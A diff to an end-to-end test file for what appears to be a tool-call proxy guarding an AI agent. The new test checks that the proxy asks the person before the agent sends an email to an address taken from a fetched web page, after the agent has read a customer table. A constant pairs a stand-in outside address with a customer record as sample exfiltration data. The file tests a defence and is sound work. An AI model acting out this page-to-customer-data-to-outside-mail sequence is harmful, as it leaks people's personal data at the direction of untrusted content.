@@ -11,19 +11,22 @@ import pytest
 from tests.e2e.mcp.wire import OFFICE, client, proxy, text_of
 
 ERAS = pytest.mark.parametrize("mode", ["legacy", "2026-07-28", "auto"])
+BALANCED = '[policy]\npreset = "balanced"\n'
 OUT = {"to": "collect@outside.example", "body": "CUST-1207 | Ana Novak | ana.novak@mail.example"}
 
 
 def play(
-    folder: Path, mode: str, calls: list[tuple[str, dict[str, Any]]], answer: Any = None, *options: str
+    folder: Path, mode: str, calls: list[tuple[str, dict[str, Any]]], answer: Any = None, *options: str, settings: str = ""
 ) -> tuple[list[Any], list[str]]:
     """The results of calls made one after the other, and what the person was asked."""
     asked: list[str] = []
+    more = {"OFFICE_SENT": str(folder / "sent")}
+    if settings:
+        (folder / "settings.toml").write_text(settings, encoding="utf-8")
+        more["RISKPROOF_CONFIG"] = str(folder / "settings.toml")
 
     async def run() -> list[Any]:
-        async with client(
-            proxy(*options, "--", *OFFICE), folder, mode, answer, {"OFFICE_SENT": str(folder / "sent")}, asked=asked
-        ) as session:
+        async with client(proxy(*options, "--", *OFFICE), folder, mode, answer, more, asked=asked) as session:
             return [await session.call_tool(name, arguments) for name, arguments in calls]
 
     return anyio.run(run), asked
@@ -65,6 +68,18 @@ def test_an_ask_is_a_denial_that_says_how_to_go_on_where_the_client_cannot_ask(t
     results, _ = play(tmp_path, mode, calls)
     assert results[1].is_error is True
     assert "this client cannot ask one" in text_of(results[1])
+
+
+@ERAS
+@pytest.mark.parametrize("answer", [True, False])
+def test_out_of_the_box_the_order_of_steps_is_no_question_but_an_address_from_a_page_is(tmp_path: Path, mode: str, answer: bool) -> None:
+    out = {"to": OUT["to"], "body": "Good morning"}
+    calls = [("fetch_page", {"url": "https://news.example/offer"}), ("read_customer_table", {}), ("send_email", out)]
+    results, asked = play(tmp_path, mode, calls, answer, settings=BALANCED)
+    assert [result.is_error for result in results] == [False, False, not answer]
+    assert len(asked) == 1
+    assert "chosen by content" in asked[0]
+    assert ("send_email" in sent(tmp_path)) is answer
 
 
 @ERAS
